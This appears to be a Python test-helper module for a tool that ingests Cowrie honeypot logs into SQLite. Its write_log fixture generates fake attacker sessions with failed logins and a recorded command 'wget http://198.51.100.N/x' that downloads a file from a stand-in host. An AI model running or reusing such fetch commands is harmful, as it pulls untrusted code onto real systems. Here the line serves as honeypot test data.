"""The real command as a process, and what one failure of it must look like on standard error."""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Mapping
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.logs import event

NACRE = (sys.executable, "-m", "nacre")
LIMIT_SECONDS = 60
STORE, LOG = "nacre.db", "cowrie.json"
PR_CAPBSET_DROP = 24  # prctl(2)
CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH = 1, 2  # capabilities(7): what lets root pass permissions by


@dataclass(frozen=True, slots=True)
class Failure:
    """What a failed command said: talk, then one error, its causes, and one next step."""

    code: int
    error: str
    next: str
    talk: tuple[str, ...]  # lines before the error, such as files that were left out


def environment(variables: Mapping[str, str] | None = None) -> dict[str, str]:
    """Return this environment without the user's own settings of nacre."""
    plain = {name: value for name, value in os.environ.items() if not name.startswith("NACRE_")}
    return {**plain, **(variables or {})}


def nacre(
    place: Path, *arguments: str, variables: Mapping[str, str] | None = None, **options: Any
) -> subprocess.CompletedProcess[str]:
    """Run the command in a folder and wait for its end; `options` are those of subprocess.run."""
    streams = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **options}
    return subprocess.run(
        [*NACRE, *arguments],
        cwd=place,
        env=environment(variables),
        text=True,
        errors="surrogateescape",
        check=False,
        timeout=LIMIT_SECONDS,
        **streams,
    )


def start(place: Path, *arguments: str, variables: Mapping[str, str] | None = None) -> subprocess.Popen[str]:
    """Start the command in a folder."""
    return subprocess.Popen(
        [*NACRE, *arguments],
        cwd=place,
        env=environment(variables),
        text=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )


def failure(code: int, stderr: str) -> Failure:
    """Read what a failed command said; fail when it is not one error, its causes and one next step, in this order."""
    lines = stderr.splitlines()
    errors = [index for index, line in enumerate(lines) if line.startswith("nacre: ")]
    assert len(errors) == 1, f"not one error: {stderr}"
    error, *causes, hint = lines[errors[0] :]
    assert "Traceback" not in stderr, stderr
    assert "a defect of nacre" not in error, stderr
    assert all(cause.startswith("  because: ") for cause in causes), stderr
    assert hint.startswith("  next: "), f"no next step: {stderr}"
    return Failure(code, error.removeprefix("nacre: "), hint.removeprefix("  next: "), tuple(lines[: errors[0]]))


def fails(place: Path, *arguments: str, variables: Mapping[str, str] | None = None, **options: Any) -> Failure:
    """Run a command that must fail, with nothing on standard output."""
    done = nacre(place, *arguments, variables=variables, **options)
    assert not done.stdout, done.stdout
    return failure(done.returncode, done.stderr)


def contents(place: Path) -> dict[str, str]:
    """Return a digest of each file below a folder; a reader may leave an index and an empty log beside a store."""
    files = (path for path in sorted(place.rglob("*")) if path.is_file() and not path.name.endswith("-shm"))
    return {
        str(path.relative_to(place)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in files
        if path.stat().st_size or not path.name.endswith("-wal")
    }


def load(place: Path, *paths: str, store: str = STORE) -> dict[str, Any]:
    """Load and return the receipt; the load must come to its end."""
    done = nacre(place, "--store", store, "load", "--json", "--jobs", "0", *(paths or (LOG,)))
    assert (0, "") == (done.returncode, done.stderr)
    receipt: dict[str, Any] = json.loads(done.stdout)
    return receipt


def stored(store: Path) -> tuple[int, int]:
    """Return how many events and rejects a store holds, after SQLite has found it sound."""
    with closing(sqlite3.connect(store)) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        (events,) = connection.execute("SELECT count(*) FROM raw_events").fetchone()
        (rejects,) = connection.execute("SELECT count(*) FROM rejects").fetchone()
    return events, rejects


def balance(place: Path, store: str = STORE) -> tuple[int, bool]:
    """Return the code of `nacre account --recount` and whether it adds up."""
    done = nacre(place, "--store", store, "account", "--recount", "--json")
    assert not done.stderr, done.stderr
    return done.returncode, bool(json.loads(done.stdout)["balanced"])


def write_log(path: Path, sessions: int, *, first: int = 0) -> int:
    """Write a log of so many sessions; return its lines."""
    lines = []
    for number in range(first, first + sessions):
        name, second = f"{number:012x}", number * 4
        lines.append(event("session.connect", name, second, dst_ip="10.0.0.1", dst_port=2222))
        lines.append(event("login.failed", name, second + 1, username=f"u{number % 97}", password=f"p{number % 31}"))
        lines.append(event("command.input", name, second + 2, input=f"wget http://198.51.100.{number % 250}/x"))
        lines.append(event("session.closed", name, second + 3, duration_ms=number))
    path.write_bytes(b"\n".join(lines) + b"\n")
    return len(lines)


def ordinary() -> Callable[[], None] | None:
    """Return what makes a child obey permissions: root loses the right to pass them by, anybody else has none."""
    if os.geteuid() != 0:
        return None
    library = ctypes.CDLL(None, use_errno=True)

    def drop() -> None:
        # Out of the bounding set, so that root does not have them again after exec.
        for capability in (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH):
            if library.prctl(PR_CAPBSET_DROP, capability, 0, 0, 0) != 0:
                raise OSError(ctypes.get_errno(), "cannot drop a capability")

    return drop


def stop(process: subprocess.Popen[str]) -> None:
    """Stop a process and wait until it stands still."""
    process.send_signal(signal.SIGSTOP)
    os.waitid(os.P_PID, process.pid, os.WSTOPPED | os.WNOWAIT)
